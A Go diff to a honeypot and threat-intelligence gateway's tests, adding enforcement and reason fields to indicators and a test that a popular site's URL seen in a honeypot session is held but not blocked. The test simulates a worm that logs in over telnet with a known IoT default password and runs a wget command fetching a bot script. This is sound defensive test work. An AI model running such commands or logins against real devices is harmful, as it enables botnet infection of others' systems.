@@ -56,6 +56,8 @@ type apiIndicator struct {
 	Category string   `json:"category"`
 	Source   string   `json:"source"`
 	Refs     []string `json:"refs"`
+	Enforced bool     `json:"enforced"`
+	Reason   string   `json:"reason"`
 }
 
 func (s *server) indicators(q url.Values) []apiIndicator {
@@ -206,7 +208,7 @@ func TestIntelImportExportRoundTrip(t *testing.T) {
 		t.Fatalf("add: %d\n%s", code, out)
 	}
 	out, code = cli("intel", "list", "--category", "c2")
-	if code != 0 || !strings.Contains(out, "c2.example") || !strings.Contains(out, "203.0.113.9") || !strings.Contains(out, "ip") {
+	if code != 0 || !strings.Contains(out, "c2.example") || !strings.Contains(out, "203.0.113.9") || !strings.Contains(out, "ip") || !strings.Contains(out, "ENFORCED") || strings.Count(out, " yes\n") != 2 {
 		t.Errorf("list: %d\n%s", code, out)
 	}
 	waitFor(t, "added ip enforced", time.Second, func() bool {
@@ -257,5 +259,35 @@ func TestIntelFromWormDownload(t *testing.T) {
 	// The payload server's address too (the default host policy: ip).
 	if m := s.match(url.Values{"url": {"http://198.51.100.66/other"}}); !m.Match || m.Hit.Type != "ip" {
 		t.Errorf("payload host not enforced: %+v", m)
+	}
+}
+
+// Anyone who reaches the honeypot can type a popular site's URL: it is
+// listed as held (suspicious, not enforced, the reason shown), the gateway
+// does not block it, and the site's host is not listed.
+func TestIntelPopularSiteHeld(t *testing.T) {
+	s := startServer(t, t.TempDir())
+	w := dialWorm(t, s.telnet(0))
+	w.login("root", "xc3511")
+	w.expect("#")
+	const popular = "http://raw.githubusercontent.com/someone/tools/main/bot.sh"
+	w.run("wget "+popular+" -O /tmp/b", "ECCHI")
+	var ind apiIndicator
+	waitFor(t, "the popular URL listed", 20*time.Second, func() bool {
+		got := s.indicators(url.Values{"source": {"honeypot"}, "type": {"url"}, "value": {popular}})
+		if len(got) == 1 {
+			ind = got[0]
+		}
+		return len(got) == 1
+	})
+	if ind.Category != "suspicious" || ind.Enforced || !strings.HasPrefix(ind.Reason, "held") {
+		t.Errorf("indicator %+v", ind)
+	}
+	time.Sleep(time.Second) // a change is enforced within one: this one must not be
+	if m := s.match(url.Values{"url": {popular}}); m.Match {
+		t.Errorf("a popular site's URL from one honeypot session is enforced: %+v", m)
+	}
+	if got := s.indicators(url.Values{"type": {"host"}, "value": {"raw.githubusercontent.com"}}); len(got) != 0 {
+		t.Errorf("popular host listed: %+v", got)
 	}
 }
